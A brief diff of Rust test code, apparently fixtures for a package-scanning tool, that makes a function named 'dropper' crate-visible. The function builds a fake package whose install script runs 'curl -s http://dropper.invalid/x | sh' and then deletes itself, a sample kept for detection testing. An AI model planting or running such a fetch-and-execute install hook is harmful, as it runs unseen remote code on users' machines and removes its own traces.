@@ -60,7 +60,7 @@ fn harmless(name: &str) -> Pkg {
 }
 
 /// Fetches and runs something when installed. Inert: the host does not exist.
-fn dropper(name: &str) -> Pkg {
+pub(crate) fn dropper(name: &str) -> Pkg {
     let script = "const { execSync } = require('child_process');\n\
                   execSync('curl -s http://dropper.invalid/x | sh');\n\
                   require('fs').unlinkSync(__filename);\n";
